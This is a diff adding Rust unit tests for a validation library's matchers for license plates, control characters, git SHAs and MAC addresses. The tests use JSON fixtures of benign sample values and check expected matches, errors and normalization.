+        "uk_no_space": "BD51SMR",
+        "uk_lower": "bd51 smr",
+        "uk_old": "A123 BCD",
+        "us_ca": "7ABC123",
+        "word": "ABCDEF",
+        "too_long": "ABC-1234-XYZ9"
+    }"#
+    .as_bytes()
+    .to_vec();
+
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "uk_current".to_string(),
+                args: vec!["uk".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "current UK format".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "uk_no_space".to_string(),
+                args: vec!["uk".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "UK plate without the space".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "uk_lower".to_string(),
+                args: vec!["UK".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "region and plate are case-insensitive".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "uk_old".to_string(),
+                args: vec!["uk".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "pre-2001 UK format doesn't match uk".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "us_ca".to_string(),
+                args: vec!["uk".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "California plate is not a UK plate".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "us_ca".to_string(),
+                args: vec!["us_ca".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "California plate".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "uk_old".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "loose fallback matches an older UK plate".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "us_ca".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "loose fallback matches a California plate".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "word".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "loose fallback needs a digit".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "too_long".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "loose fallback rejects long strings".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "uk_current".to_string(),
+                args: vec!["mars".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unknown region errors".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::license_plate, &test_cases);
+}
+
+#[test]
+fn control_chars() {
+    let data = r#"{
+        "nul": "admin\u0000.txt",
+        "clean": "hello world",
+        "multiline": "line 1\r\n\tline 2",
+        "escape": "\u001b[31mred",
+        "delete": "abc\u007f",
+        "next_line": "line 1\u0085line 2"
+    }"#
+    .as_bytes()
+    .to_vec();
+
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "nul".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "embedded NUL".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "clean".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "clean field".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "multiline".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "tab, LF and CR are allowed by default".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "escape".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "ANSI escape sequence".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "escape".to_string(),
+                args: vec!["0x1b".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "escape allowed by hex code".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "multiline".to_string(),
+                args: vec!["\t".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "LF not in a custom allowlist".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "clean".to_string(),
+                args: vec!["A".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "non-control allowlist entry errors".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "delete".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "DEL is a control character".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "next_line".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "C1 NEL is a control character".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "next_line".to_string(),
+                args: vec!["0x85".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "NEL allowed by hex code".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::control_chars, &test_cases);
+}
+
+#[test]
+fn git_sha() {
+    let data = r#"{
+        "short": "a1b2c3d",
+        "full": "9fceb02d0ae598e95dc970b74767f19372d61af8",
+        "sha256": "6c4e2c3b3b2f1f0e0d9c8b7a6958473625140f1e2d3c4b5a69788796a5b4c3d2",
+        "upper": "9FCEB02D0AE5",
+        "too_short": "a1b2c3",
+        "between": "9fceb02d0ae598e95dc970b74767f19372d61af89fceb02d0a",
+        "not_hex": "release-1.2"
+    }"#
+    .as_bytes()
+    .to_vec();
+
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "short".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "7 char abbreviated SHA".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "full".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "40 char SHA-1".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "sha256".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "64 char SHA-256".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "short".to_string(),
+                args: vec!["12".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "shorter than the minimum length".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "upper".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "hex digits are case-insensitive".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "too_short".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "6 chars is below the default minimum".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "between".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "50 hex digits is neither SHA-1 nor SHA-256".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "not_hex".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "non-hex characters".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &data,
+                path: "short".to_string(),
+                args: vec!["2".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "minimum length below 4 errors".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::git_sha, &test_cases);
+}
+
+#[test]
+fn mac_address_formats() {
+    let data = r#"{
+        "colon": "00:1A:2B:3C:4D:5E",
+        "hyphen": "00-1a-2b-3c-4d-5e",
+        "cisco": "001a.2b3c.4d5e",
+        "eui64": "00:1a:2b:ff:fe:3c:4d:5e",
+        "eui64_cisco": "001a.2bff.fe3c.4d5e",
+        "out_of_range": "00:1a:2b:3c:4d:5g",
+        "five_octets": "00:1a:2b:3c:4d",
+        "seven_octets": "00:1a:2b:3c:4d:5e:6f",
+        "mixed": "00:1a-2b:3c-4d:5e",
+        "bare": "001a2b3c4d5e"
+    }"#
+    .as_bytes()
+    .to_vec();
+
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+                data: &data,
+                path: "colon".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "colon separated".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+                data: &data,
+                path: "hyphen".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "hyphen separated".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+                data: &data,
+                path: "cisco".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "Cisco dotted".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+                data: &data,
+                path: "eui64".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "EUI-64 needs the eui64 option".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+                data: &data,
+                path: "eui64".to_string(),
+                args: vec![crate::matcher_core::EUI64.to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "EUI-64 with the eui64 option".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+                data: &data,
+                path: "eui64_cisco".to_string(),
+                args: vec![crate::matcher_core::EUI64.to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "Cisco dotted EUI-64".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+                data: &data,
+                path: "out_of_range".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "out of range hex digit".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+                data: &data,
+                path: "five_octets".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "too few octets".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+                data: &data,
+                path: "seven_octets".to_string(),
+                args: vec![crate::matcher_core::EUI64.to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "7 octets is neither length".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+                data: &data,
+                path: "mixed".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "mixed separators".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+                data: &data,
+                path: "bare".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "no separators".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_tests(&test_cases);
+
+    // Every notation normalizes to the same address
+    for path in ["colon", "hyphen", "cisco"] {
+        let request = Request {
+            match_type: DetectiveType::DETECTIVE_TYPE_MAC_ADDRESS,
+            data: &data,
+            path: path.to_string(),
+            args: vec![],
+            negate: false,
+        };
+        let result = crate::detective::Detective::new().matches_detailed(&request).unwrap();
+
+        assert_eq!(result.normalized_value.as_deref(), Some("00:1a:2b:3c:4d:5e"), "{}", path);
+    }
+}